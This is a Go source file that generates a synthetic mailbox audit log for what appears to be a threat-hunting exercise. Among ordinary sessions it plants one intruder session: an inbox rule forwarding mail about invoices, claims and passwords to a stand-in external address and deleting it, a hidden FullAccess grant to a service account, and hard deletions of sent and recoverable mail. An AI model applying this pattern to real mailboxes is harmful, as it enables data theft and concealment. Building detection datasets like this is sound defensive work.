package datasets

import (
	"bytes"
	"cmp"
	"encoding/csv"
	"encoding/json"
	"math/rand/v2"
	"slices"
	"strconv"
	"time"
)

// mailTime is when the intruder reads the mail: 23:10 at the site.
var mailTime = instantOf(time.Date(2024, 5, 15, 3, 10, 21, 0, time.UTC))

func mailStep() Step {
	return Step{
		Time: mailTime.time(), Technique: "T1114.003",
		What: "From " + mailAddress + " the user's mailbox gets a rule that forwards mail outside, another account gets full access, " +
			"and messages are deleted for good. Only the mailbox table shows it.",
		Trace: mailAddress,
	}
}

// param is a parameter of a mailbox operation.
type param struct{ Name, Value string }

// mailOp is one operation on a mailbox.
type mailOp struct {
	operation string
	params    []param
}

// mailHabits are the ordinary sessions: sequences of operations and how often each
// occurs among twenty.
var mailHabits = []struct {
	weight int
	ops    []mailOp
}{
	{6, []mailOp{{"MailboxLogin", nil}, {"MailItemsAccessed", folder("Inbox")}, {"MailItemsAccessed", folder("Inbox")}, {"Send", nil}}},
	{4, []mailOp{{"MailboxLogin", nil}, {"MailItemsAccessed", folder("Inbox")}, {"MoveToDeletedItems", folder("Inbox")}, {"SoftDelete", folder("Deleted Items")}}},
	{3, []mailOp{{"MailboxLogin", nil}, {"MailItemsAccessed", folder("Inbox")}, {"Create", folder("Drafts")}, {"Update", folder("Drafts")}, {"Send", nil}}},
	{2, []mailOp{{"MailboxLogin", nil}, {"MailItemsAccessed", folder("Inbox")}, {"Move", folder("Claims")}, {"Move", folder("Claims")}, {"Send", nil}}},
	{2, []mailOp{{"MailboxLogin", nil}, {"MailItemsAccessed", folder("Calendar")}, {"UpdateCalendarDelegation", nil}, {"Send", nil}}},
	{1, []mailOp{{"MailboxLogin", nil}, {"New-InboxRule", []param{{"Name", "Newsletters"}, {"SubjectContainsWords", "newsletter"}, {"MoveToFolder", "Newsletters"}}}, {"MailItemsAccessed", folder("Inbox")}}},
	{1, []mailOp{{"MailboxLogin", nil}, {"Set-MailboxAutoReplyConfiguration", []param{{"AutoReplyState", "Scheduled"}, {"ExternalAudience", "Known"}}}, {"MailItemsAccessed", folder("Inbox")}, {"Send", nil}}},
	{1, []mailOp{{"MailboxLogin", nil}, {"Add-MailboxFolderPermission", []param{{"Identity", `Calendar`}, {"AccessRights", "Reviewer"}}}, {"MailItemsAccessed", folder("Calendar")}}},
}

func folder(name string) []param { return []param{{"Folder", name}, {"ClientInfo", "Client=OWA"}} }

// intruderMail is the one rare session.
var intruderMail = []mailOp{
	{"MailboxLogin", nil},
	{"MailItemsAccessed", folder("Inbox")},
	{"New-InboxRule", []param{{"Name", "."}, {"SubjectOrBodyContainsWords", "invoice;claim;password"}, {"ForwardTo", "archive@drop-quay.example"}, {"DeleteMessage", "True"}, {"StopProcessingRules", "True"}}},
	{"Add-MailboxPermission", []param{{"Identity", "hlindqvist"}, {"User", "svc-scan"}, {"AccessRights", "FullAccess"}, {"InheritanceType", "All"}, {"AutoMapping", "False"}}},
	{"HardDelete", folder("Sent Items")},
	{"HardDelete", folder("Recoverable Items")},
	{"HardDelete", folder("Recoverable Items")},
}

// mailRow is one line of the mailbox table.
type mailRow struct {
	at                    instant
	user, ip, op, details string
}

// mailboxTable is the mailbox activity of four weeks.
func mailboxTable() ([]byte, error) {
	rng := rand.New(rand.NewPCG(sampleSeed, 2))
	var rows []mailRow
	add := func(at instant, user, ip string, ops []mailOp) error {
		for _, o := range ops {
			details := []byte("[]")
			if o.params != nil {
				var err error
				if details, err = json.Marshal(o.params); err != nil {
					return err
				}
			}
			rows = append(rows, mailRow{at, user + "@meridian.example", ip, o.operation, string(details)})
			at += between(rng, 6*second, 90*second)
		}
		return nil
	}
	firstDay := mailTime - 27*24*hour
	firstDay -= firstDay % (24 * hour)
	for d := range 28 {
		day := firstDay + instant(d)*24*hour
		sessions := 20
		if wd := day.time().Weekday(); wd == time.Saturday || wd == time.Sunday {
			sessions = 3
		}
		for range sessions {
			user := rng.IntN(len(mailUsers))
			at := day + between(rng, 11*hour+10*minute, 21*hour+30*minute)
			if err := add(at, mailUsers[user], "10.20.4."+strconv.Itoa(17+user), habit(rng)); err != nil {
				return nil, err
			}
		}
	}
	if err := add(mailTime, mailUsers[0], mailAddress, intruderMail); err != nil {
		return nil, err
	}
	return writeMail(rows)
}

var mailUsers = [...]string{"hlindqvist", "mferrand", "tokafor", "abrandt", "csoto", "dkim", "eoduya", "fnowak", "gpereira"}

// habit draws an ordinary session.
func habit(rng *rand.Rand) []mailOp {
	n := rng.IntN(20)
	for _, h := range mailHabits {
		if n -= h.weight; n < 0 {
			return h.ops
		}
	}
	return mailHabits[0].ops
}

func writeMail(rows []mailRow) ([]byte, error) {
	slices.SortStableFunc(rows, func(a, b mailRow) int { return cmp.Compare(a.at, b.at) })
	var out bytes.Buffer
	w := csv.NewWriter(&out)
	records := [][]string{{"TimeGenerated", "UserId", "ClientIP", "Operation", "Parameters"}}
	for _, r := range rows {
		records = append(records, []string{r.at.time().Format(time.RFC3339), r.user, r.ip, r.op, r.details})
	}
	if err := w.WriteAll(records); err != nil {
		return nil, err
	}
	return out.Bytes(), nil
}
